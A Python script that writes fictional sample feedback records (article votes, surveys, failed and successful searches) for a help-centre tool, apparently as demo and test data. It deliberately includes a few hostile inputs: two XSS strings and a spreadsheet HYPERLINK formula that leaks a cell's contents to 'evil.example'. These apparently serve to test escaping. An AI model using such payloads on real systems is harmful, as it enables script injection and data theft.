"""Write sample collector files: examples/feedback/feedback-2026-10-0N-demo.jsonl.

    python examples/make_sample_feedback.py   (after make_sample_export.py: surveys cite its tickets)

The records are what `kbgen collect` stores: article votes, survey answers, failed searches and
searches whose visitor opened a result,
one JSON object per line, oldest first within a file. Fictional and free of personal data.
Standard library only, fixed seed.

The story: the password article is mostly unhelpful (the link expires, the email never comes),
the invoice article works, the invite article is mixed, the Dutch article gets few votes; people
keep searching for Gantt colours, dark mode, offline mode and SAML single sign-on; searches about
an expired email link open the password and the invite articles alike.
"""

from __future__ import annotations

import csv
import hashlib
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
EXPORT_FILE = HERE / "tickets.zendesk.json"
TRUTH_FILE = HERE / "topics_truth.csv"
OUT_DIR = HERE / "feedback"
DAYS = [datetime(2026, 10, day, tzinfo=timezone.utc) for day in range(1, 6)]

rng = random.Random(20261001)

# page -> (language, votes over the five days, share answering "helpful", comments for no, comments for yes)
ARTICLES = {
    "/account/reset-your-password/": ("en", 66, 0.31, [
        "The reset link expired before I got the email",
        "Link says expired every time, even when I click it straight away",
        "The email never arrived, not even in spam",
        "Doesn't say what to do if the email never comes",
        "Our mail filter opens the link first, article doesn't mention that",
        "I signed up with Google, there is no password to reset?",
        "Requested 4 links, none of them work",
        "Waited 20 minutes for the email. Nothing.",
        "Too many attempts message, how long do I wait?",
        "Steps are fine but the link is dead by the time I open it",
        "",
    ], [
        "Worked first time, thanks",
        "Clear steps",
        "The spam folder tip did it",
        "",
    ]),
    "/billing/download-an-invoice/": ("en", 44, 0.85, [
        "I'm not the owner so I can't see the Invoices page - who can?",
        "Need the VAT number on old invoices, not explained",
        "Download button does nothing in Safari",
        "",
    ], [
        "Found it in 10 seconds",
        "Exactly what our bookkeeper needed",
        "Clear and short",
        "The 'send invoices to' tip saves me forwarding every month",
        "",
        "",
    ]),
    "/account/invite-team-members/": ("en", 34, 0.5, [
        "Doesn't explain what to do when the seat limit is reached",
        "Invite never arrived and the article has no help for that",
        "What about clients? Do they need a paid seat?",
        "My colleague ended up in an empty workspace",
        "Button is greyed out for me, why?",
        "",
    ], [
        "Easy, thanks",
        "Bulk invite tip was useful",
        "",
    ]),
    "/nl/account/wachtwoord-opnieuw-instellen/": ("nl", 8, 0.45, [
        "De link was al verlopen toen ik erop klikte",
        "Geen mail ontvangen",
        "",
    ], [
        "Duidelijk, dank!",
        "",
    ]),
}

HOSTILE = [
    ("/account/invite-team-members/", "<script>alert(1)</script>"),
    ("/billing/download-an-invoice/", '=HYPERLINK("http://evil.example/refund?c="&A1,"Click here for your refund")'),
]

# Survey answers: ticket ids come from the export; scores follow the ticket's satisfaction rating.
SURVEY_COMMENTS = {
    "en": {"low": ["Took three emails to get a straight answer", "The link still doesn't work", "Slow reply, we were stuck for two days", "Answer was a copy-paste that didn't fit my question"],
           "high": ["Quick and friendly, thanks", "Sorted in one reply", "Clear steps, worked straight away", "Much faster than I expected"]},
    "nl": {"low": ["Duurde lang voordat ik antwoord kreeg", "Het probleem is nog steeds niet opgelost", "Standaardantwoord, niet op mijn vraag ingegaan"],
           "high": ["Snel en vriendelijk geholpen", "Duidelijke uitleg, werkte meteen", "Top service!"]},
    "sv": {"low": ["Det tog lång tid att få svar"], "high": ["Snabb och trevlig hjälp", "Tydligt svar, tack!"]},
}
SURVEYS = {"csat": (1, 5, 40), "nps": (0, 10, 18), "ces": (1, 7, 16)}  # name -> (lowest, highest, answers)

# Failed searches: repeated wordings (the story) and one-offs.
REPEATED_SEARCHES = [
    ("en", "gantt colours", 7), ("en", "Gantt colors", 5), ("en", "gantt chart colour by person", 2),
    ("en", "dark mode", 9), ("en", "darkmode", 2), ("nl", "donkere modus", 3),
    ("en", "offline mode", 6), ("en", "work offline", 3), ("nl", "offline werken", 2),
    ("en", "sso saml", 5), ("en", "SAML", 3), ("en", "single sign on okta", 2),
]
ONE_OFF_SEARCHES = [
    ("en", "burndown chart"), ("en", "timesheet approval"), ("en", "kanban wip limit"),
    ("en", "zapier webhook retry"), ("en", "archive project without deleting"), ("en", "print board A3"),
    ("en", "custom domain shared page"), ("en", "api rate limit 429"), ("en", "recurring task last friday"),
    ("en", "hipaa"), ("en", "two step code lost phone"), ("en", "<img src=x onerror=alert(1)>"),
    ("nl", "exporteren naar pdf"), ("nl", "urenregistratie goedkeuren"), ("nl", "factuur in dollars"),
    ("sv", "öppettider support"), ("sv", "mörkt läge"),
]
SEARCH_PAGES = ["/", "/", "/", "/account/reset-your-password/", "/billing/download-an-invoice/", "/account/invite-team-members/"]
DUTCH_PAGE = "/nl/account/wachtwoord-opnieuw-instellen/"
# Searches that found something, the page the visitor opened, and how often.
OPENED_SEARCHES = [
    ("en", "reset password", "/account/reset-your-password/", 12),
    ("en", "download invoice", "/billing/download-an-invoice/", 9),
    ("en", "email link expired", "/account/reset-your-password/", 6),
    ("en", "email link expired", "/account/invite-team-members/", 5),
    ("en", "invite colleague", "/account/invite-team-members/", 4),
    ("nl", "wachtwoord vergeten", DUTCH_PAGE, 3),
]


def hex_id(length: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(length))


def client_for(day: datetime, visitor: int) -> str:
    """The collector's salted daily hash of a visitor: same visitor, same day, same value."""
    return hashlib.sha256(f"demo-salt|{day:%Y-%m-%d}|{visitor}".encode()).hexdigest()[:16]


def moment_on(day: datetime) -> datetime:
    hour = rng.choices(range(24), weights=[1, 1, 1, 1, 1, 2, 4, 6, 9, 10, 10, 9, 8, 9, 9, 8, 7, 6, 5, 5, 4, 3, 2, 1])[0]
    return day + timedelta(hours=hour, minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))


def stamp(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def spread(total: int) -> list[int]:
    """Split a total over the days, unevenly."""
    counts = [0] * len(DAYS)
    for _ in range(total):
        counts[rng.choices(range(len(DAYS)), weights=[5, 4, 4, 3, 2])[0]] += 1
    return counts


def article_votes() -> list[tuple[datetime, dict]]:
    records = []
    for page, (lang, total, yes_share, no_comments, yes_comments) in ARTICLES.items():
        for day, count in zip(DAYS, spread(total)):
            for _ in range(count):
                at = moment_on(day)
                helpful = rng.random() < yes_share
                # Most people only vote; unhappy ones write more often.
                wants_to_write = rng.random() < (0.45 if not helpful else 0.2)
                comment = rng.choice(yes_comments if helpful else no_comments) if wants_to_write else ""
                record = {"v": 1, "kind": "feedback", "received_at": stamp(at), "page": page, "lang": lang,
                          "helpful": helpful, "comment": "", "client": client_for(day, rng.randint(1, 400)),
                          "submission": hex_id(20)}
                records.append((at, record))
                if comment:
                    # The widget sends the vote at once and the comment when it is typed:
                    # same submission id, so the later record replaces the first.
                    later = at + timedelta(seconds=rng.randint(15, 240))
                    records.append((later, {**record, "received_at": stamp(later), "comment": comment}))
    for page, comment in HOSTILE:
        day = rng.choice(DAYS)
        at = moment_on(day)
        records.append((at, {"v": 1, "kind": "feedback", "received_at": stamp(at), "page": page, "lang": "en",
                             "helpful": False, "comment": comment, "client": client_for(day, 999),
                             "submission": hex_id(20)}))
    return records


def survey_answers() -> list[tuple[datetime, dict]]:
    export = json.loads(EXPORT_FILE.read_text(encoding="utf-8"))
    with open(TRUTH_FILE, encoding="utf-8") as fp:
        language = {row["ticket_id"]: row["language"] for row in csv.DictReader(fp)}
    solved = []
    for ticket in export["tickets"]:
        solved_at = (ticket.get("metric_set") or {}).get("solved_at")
        if ticket["status"] in ("solved", "closed") and solved_at:
            when = datetime.fromisoformat(solved_at.replace("Z", "+00:00"))
            solved.append((when, ticket))
    records = []
    used: set[tuple[str, int]] = set()
    for name, (low, high, total) in SURVEYS.items():
        for day, count in zip(DAYS, spread(total)):
            # A survey link goes out when a ticket is solved; people answer within a few days.
            candidates = [t for when, t in solved if day - timedelta(days=4) <= when < day and (name, t["id"]) not in used]
            for ticket in rng.sample(candidates, min(count, len(candidates))):
                used.add((name, ticket["id"]))
                lang = language[str(ticket["id"])]
                rating = ticket["satisfaction_rating"]["score"]
                unhappy = rating == "bad" or (rating not in ("good",) and rng.random() < 0.2)
                span = high - low
                if unhappy:
                    score = low + rng.randint(0, span // 3)
                else:
                    score = high - rng.randint(0, span // 3)
                comment = ""
                if rng.random() < 0.35:
                    comment = rng.choice(SURVEY_COMMENTS.get(lang, SURVEY_COMMENTS["en"])["low" if unhappy else "high"])
                at = moment_on(day)
                records.append((at, {"v": 1, "kind": "survey", "received_at": stamp(at), "page": f"/survey/{name}/",
                                     "lang": lang, "survey": name, "score": score, "comment": comment,
                                     "ticket": str(ticket["id"]), "client": client_for(day, rng.randint(1, 400)),
                                     "submission": hex_id(20)}))
    return records


def failed_searches() -> list[tuple[datetime, dict]]:
    records = []
    queries = [(lang, query) for lang, query, times in REPEATED_SEARCHES for _ in range(times)] + ONE_OFF_SEARCHES
    for lang, query in queries:
        day = rng.choice(DAYS)
        at = moment_on(day)
        # The search box reports the language of the page it sits on, not of the query.
        page = DUTCH_PAGE if lang == "nl" and rng.random() < 0.6 else rng.choice(SEARCH_PAGES)
        records.append((at, {"v": 1, "kind": "search", "received_at": stamp(at), "page": page,
                             "lang": "nl" if page.startswith("/nl/") else "en",
                             "query": query, "results": 0, "client": client_for(day, rng.randint(1, 400))}))
    return records


def opened_searches() -> list[tuple[datetime, dict]]:
    records = []
    for lang, query, opened, times in OPENED_SEARCHES:
        for _ in range(times):
            day = rng.choice(DAYS)
            at = moment_on(day)
            page = DUTCH_PAGE if lang == "nl" else rng.choice(SEARCH_PAGES)
            records.append((at, {"v": 1, "kind": "search", "received_at": stamp(at), "page": page, "lang": lang,
                                 "query": query, "results": rng.randint(2, 6), "opened": opened,
                                 "client": client_for(day, rng.randint(1, 400))}))
    return records


def main() -> None:
    records = article_votes() + survey_answers() + failed_searches() + opened_searches()
    OUT_DIR.mkdir(exist_ok=True)
    for old in OUT_DIR.glob("feedback-*-demo.jsonl"):
        old.unlink()
    for day in DAYS:
        today = sorted((r for r in records if r[0].date() == day.date()), key=lambda r: r[0])
        path = OUT_DIR / f"feedback-{day:%Y-%m-%d}-demo.jsonl"
        with open(path, "w", encoding="utf-8", newline="\n") as fp:
            for _, record in today:
                fp.write(json.dumps(record, ensure_ascii=False) + "\n")
    kinds = {k: sum(1 for _, r in records if r["kind"] == k) for k in ("feedback", "survey", "search")}
    print(f"wrote {len(records)} records in {len(DAYS)} files to {OUT_DIR.name}/: {kinds}")


if __name__ == "__main__":
    main()
